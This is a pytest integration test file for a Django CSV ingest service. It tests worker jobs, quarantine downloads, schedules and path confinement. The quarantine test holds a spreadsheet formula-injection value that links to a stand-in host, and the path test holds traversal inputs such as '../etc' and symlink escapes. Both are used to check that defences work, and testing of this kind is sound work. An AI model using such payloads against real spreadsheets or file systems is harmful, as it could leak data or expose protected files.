"""Ingest jobs through a real Celery worker: the command, rejection, quarantine download, schedules, paths."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.core.management import CommandError, call_command
from django.test import Client

from graph.driver import Graph
from graph.scenarios import preset
from graph.scenarios.series import generate_series
from investigations.models import DetectionRun, FirstFlag, IngestJob, IngestSchedule, JobStatus
from investigations.services import ingest as services
from investigations.services import ingest_paths as paths
from investigations.services import ingest_schedules as schedules
from tests.integration.ingest import drops
from tests.integration.ingest.drops import EXPECTED_NODES, node_counts, small_drop

pytestmark = pytest.mark.integration
ROOT = Path(__file__).resolve().parents[3]


def wait_for_job(job_id: int, timeout: float = 600) -> IngestJob:
    """Poll a job until it reaches a final status."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        job = IngestJob.objects.get(pk=job_id)
        if job.is_finished:
            return job
        time.sleep(0.5)
    raise AssertionError(
        f"ingest job {job_id} still {IngestJob.objects.get(pk=job_id).status} after {timeout} s"
    )


@pytest.fixture
def root_folder() -> Iterator[Path]:
    """A fresh folder under INGEST_ROOT (the worker process sees the same root)."""
    folder = Path(settings.INGEST_ROOT) / f"test-{uuid.uuid4().hex[:8]}"
    folder.mkdir(parents=True)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def _age(path: Path, seconds: float = 60) -> None:
    """Make a drop look settled (its files were written a while ago)."""
    past = time.time() - seconds
    for p in path.rglob("*"):
        os.utime(p, (past, past))


def test_ingest_command_waits_and_prints_the_report(
    worker: object, clean_graph: Graph, tmp_path: Path
) -> None:
    out = io.StringIO()
    call_command("ingest", str(small_drop(tmp_path / "drop")), "--wait", stdout=out)
    text = out.getvalue()
    assert "succeeded" in text
    assert (
        "exchanges       read           7  loaded           7  quarantined         0  duplicates         0"
        in text
    )
    job = IngestJob.objects.get()
    assert job.status == JobStatus.SUCCEEDED and job.source == IngestJob.Source.COMMAND
    assert job.counts["sessions"] == {"read": 4, "loaded": 4, "quarantined": 0, "duplicates": 0}
    assert job.progress == 1.0 and job.finished_at is not None and job.report["exchanges"] == 7
    assert node_counts(clean_graph) == EXPECTED_NODES


def test_ingest_command_exits_non_zero_naming_file_and_column(
    worker: object, clean_graph: Graph, tmp_path: Path
) -> None:
    drop = small_drop(tmp_path / "drop", drop_columns={"accounts": "plan"})
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "investigations.settings.test", "USE_TEST_DATABASE": "1"}
    proc = subprocess.run(
        [sys.executable, "manage.py", "ingest", str(drop), "--wait"], cwd=ROOT, env=env, capture_output=True,
        text=True, timeout=600,
    )  # fmt: skip
    assert proc.returncode != 0
    assert "accounts.csv" in proc.stderr and "'plan'" in proc.stderr and "rejected" in proc.stderr
    job = IngestJob.objects.get()
    assert job.status == JobStatus.REJECTED
    assert job.report["rejected"] == {
        "file": "accounts.csv",
        "column": "plan",
        "reason": "required column is missing",
    }
    assert node_counts(clean_graph) == {}


def test_ingest_command_refuses_a_missing_directory(worker: object, tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="not an existing directory"):
        call_command("ingest", str(tmp_path / "nowhere"), "--wait")


def test_quarantined_rows_download_as_csv(
    worker: object, clean_graph: Graph, root_folder: Path, client: Client, admin_user: User
) -> None:
    sessions = [
        *drops.SESSIONS,
        {**drops.SESSIONS[0], "session_id": "sess_bad", "account_id": "acct_unknown"},
        {**drops.SESSIONS[0], "session_id": "sess_formula", "account_id": '=HYPERLINK("http://x.example/?"&A1)'},
    ]
    small_drop(root_folder / "drop", sessions=sessions)
    job = services.start_ingest_by_hand(f"{root_folder.name}/drop", by=admin_user)
    job = wait_for_job(job.pk)
    assert job.status == JobStatus.SUCCEEDED and job.quarantined_total == 2
    client.force_login(admin_user)
    response = client.get(f"/ingest/jobs/{job.pk}/quarantine.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    assert body.splitlines()[0] == "file,row,column,reason,value"
    assert "sessions.csv,5,account_id,unknown account_id,acct_unknown" in body
    # a value a spreadsheet would run as a formula is downloaded as text (leading quote), read back intact
    rows = list(csv.reader(io.StringIO(body)))
    formula = [r for r in rows if r[:3] == ["sessions.csv", "6", "account_id"]]
    assert len(formula) == 1 and formula[0][4] == """'=HYPERLINK("http://x.example/?"&A1)"""
    api = client.get(f"/api/ingest-jobs/{job.pk}/quarantine/")
    api_body = b"".join(api.streaming_content).decode()  # type: ignore[attr-defined]
    assert api.status_code == 200 and api_body == body
    page = client.get(f"/ingest/jobs/{job.pk}/")
    assert page.status_code == 200 and b"acct_unknown" in page.content


def test_schedule_ingests_each_new_drop_exactly_once(
    worker: object, clean_graph: Graph, root_folder: Path, admin_user: User
) -> None:
    watched = root_folder / "incoming"
    watched.mkdir()
    schedule = schedules.create_schedule(
        name="incoming",
        folder=f"{root_folder.name}/incoming",
        interval_minutes=5,
        run_detection=False,
        by=admin_user,
    )
    assert schedule.periodic_task is not None and schedule.periodic_task.task == services.SCAN_FOLDER_TASK
    small_drop(watched / "day1")
    _age(watched / "day1")
    schedules.scan_schedule_folder(schedule.pk)
    schedules.scan_schedule_folder(schedule.pk)
    jobs = list(IngestJob.objects.filter(schedule=schedule))
    assert len(jobs) == 1
    job = wait_for_job(jobs[0].pk)
    assert job.status == JobStatus.SUCCEEDED and job.source == IngestJob.Source.SCHEDULE
    # the same content under another name is the same drop: not ingested again
    shutil.copytree(watched / "day1", watched / "day1-again")
    _age(watched / "day1-again")
    assert schedules.scan_schedule_folder(schedule.pk) == []
    # new content is a new drop
    small_drop(
        watched / "day2",
        accounts=[{**drops.ACCOUNTS[2], "status": "suspended"}],
        billing=[],
        sessions=[],
        exchanges=[],
    )
    _age(watched / "day2")
    started = schedules.scan_schedule_folder(schedule.pk)
    assert len(started) == 1
    assert wait_for_job(started[0]).status == JobStatus.SUCCEEDED
    assert IngestJob.objects.filter(schedule=schedule).count() == 2
    schedules.set_schedule_enabled(schedule, False)
    small_drop(
        watched / "day3",
        accounts=[{**drops.ACCOUNTS[2], "status": "active"}],
        billing=[],
        sessions=[],
        exchanges=[],
    )
    _age(watched / "day3")
    assert schedules.scan_schedule_folder(schedule.pk) == []  # paused


def test_paths_outside_ingest_root_are_refused(db: object, root_folder: Path, tmp_path: Path) -> None:
    (root_folder / "inside").mkdir()
    assert paths.resolve_drop_path(f"{root_folder.name}/inside") == (root_folder / "inside").resolve()
    (root_folder / "escape").symlink_to(tmp_path)
    for bad in [f"{root_folder.name}/../..", str(tmp_path), f"{root_folder.name}/escape", "../etc", "/etc"]:
        with pytest.raises(paths.PathRefused):
            paths.resolve_drop_path(bad)
    with pytest.raises(paths.PathRefused):
        schedules.create_schedule(
            name="x", folder=str(tmp_path), interval_minutes=5, run_detection=False, by=None
        )
    with pytest.raises(paths.PathRefused):
        services.start_ingest_by_hand(f"{root_folder.name}/escape", by=None)  # type: ignore[arg-type]
    # a drop folder inside the root whose contract file is a symlink to a file outside it
    secret = tmp_path / "secret.csv"
    secret.write_text("account_id\nnot for ingest\n")
    (root_folder / "inside" / "accounts.csv").symlink_to(secret)
    with pytest.raises(paths.PathRefused, match="accounts.csv is a symlink leading outside INGEST_ROOT"):
        services.start_ingest_by_hand(f"{root_folder.name}/inside", by=None)
    assert IngestJob.objects.count() == 0
    # a command-line job may read anywhere; retrying it from the web may not
    outside = small_drop(tmp_path / "outside")
    job = IngestJob.objects.create(drop_path=str(outside), source=IngestJob.Source.COMMAND, status=JobStatus.FAILED)
    with pytest.raises(paths.PathRefused, match="outside INGEST_ROOT"):
        services.retry_ingest_job(job)
    assert IngestJob.objects.count() == 1


def test_a_drop_that_leaves_the_root_after_it_was_queued_is_refused_when_it_runs(
    db: object, root_folder: Path, tmp_path: Path
) -> None:
    drop = small_drop(root_folder / "later")
    job = IngestJob.objects.create(drop_path=str(drop.resolve()), source=IngestJob.Source.MANUAL)
    (drop / "accounts.csv").unlink()
    (drop / "accounts.csv").symlink_to(small_drop(tmp_path / "elsewhere") / "accounts.csv")
    services.execute_ingest_job(job.pk)
    job.refresh_from_db()
    assert job.status == JobStatus.REJECTED and "symlink leading outside INGEST_ROOT" in job.error


def _wait_for_run(run_id: int, timeout: float = 600) -> DetectionRun:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        run = DetectionRun.objects.get(pk=run_id)
        if run.status in (JobStatus.SUCCEEDED, JobStatus.FAILED):
            return run
        time.sleep(0.5)
    raise AssertionError(f"detection run {run_id} still running after {timeout} s")


def test_a_schedule_ingests_each_days_drop_of_a_series_then_detects(
    worker: object, clean_graph: Graph, root_folder: Path, admin_user: User, tmp_path: Path
) -> None:
    """Daily drops land in a watched folder one after the other; each is ingested once, then detection runs on
    everything so far and records the accounts it flags for the first time."""
    series = generate_series(tmp_path / "series", preset("test"), periods=3, period_days=2, seed=5)
    watched = root_folder / "daily"
    watched.mkdir()
    schedule = schedules.create_schedule(name="daily", folder=f"{root_folder.name}/daily", interval_minutes=60,
                                        run_detection=True, by=admin_user)  # fmt: skip
    # creating a schedule also queues a first scan on the worker; let it look at the still empty folder first, so
    # it cannot claim the first drop before the scans below do
    deadline = time.monotonic() + 120
    while IngestSchedule.objects.get(pk=schedule.pk).last_checked_at is None:
        assert time.monotonic() < deadline, "the worker never ran the schedule's first scan"
        time.sleep(0.2)
    runs: list[DetectionRun] = []
    for drop in series.drops:
        shutil.copytree(drop.out_dir, watched / drop.out_dir.name)
        _age(watched / drop.out_dir.name)
        (job_id,) = schedules.scan_schedule_folder(schedule.pk)
        job = wait_for_job(job_id)
        assert job.status == JobStatus.SUCCEEDED, job.error
        assert job.detection_run is not None
        runs.append(_wait_for_run(job.detection_run.pk))
        assert runs[-1].status == JobStatus.SUCCEEDED, runs[-1].error
        assert schedules.scan_schedule_folder(schedule.pk) == []  # each drop once
    accounts = clean_graph.auto("n", "MATCH (a:Account) RETURN count(a) AS n")[0]["n"]
    assert accounts == series.drops[-1].rows["accounts"]
    horizons = [r.data_as_of for r in runs if r.data_as_of is not None]
    assert len(horizons) == 3 and horizons == sorted(horizons) and len(set(horizons)) == 3
    assert FirstFlag.objects.filter(run=runs[0]).exists()
    assert all(r.stats["first_flagged"] == FirstFlag.objects.filter(run=r).count() for r in runs)
